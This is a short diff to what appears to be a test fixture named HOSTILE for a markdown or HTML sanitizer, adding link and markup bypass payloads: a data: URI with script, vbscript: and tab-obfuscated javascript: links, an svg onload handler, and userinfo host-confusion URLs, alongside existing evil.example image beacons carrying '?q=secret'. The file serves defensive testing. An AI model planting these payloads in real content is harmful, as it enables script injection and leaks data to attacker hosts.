@@ -13,6 +13,9 @@ HOSTILE = """
 <style>@import url(https://evil.example/s.css)</style>
 ![chart](https://evil.example/pixel.png?q=secret) ![[1]](https://evil.example/pixel2.png)
 [click](javascript:window.hacked=1) [ok](https://evil.example/a) <https://evil.example/b> https://evil.example/c
+[data](data:text/html,<script>window.hacked=1</script>) [vb](vbscript:x) [two](//evil.example/e)
+<https://good.example@evil.example/user> [user](https://good.example:x@evil.example/manual?page=2)
+<svg onload="window.hacked=1"></svg> <a href="jav&#x09;ascript:window.hacked=1">x</a>
 [prefix](https://good.example/) [1](https://evil.example/mark) [ref][1] [1]
 
 [1]: https://evil.example/reference "title"
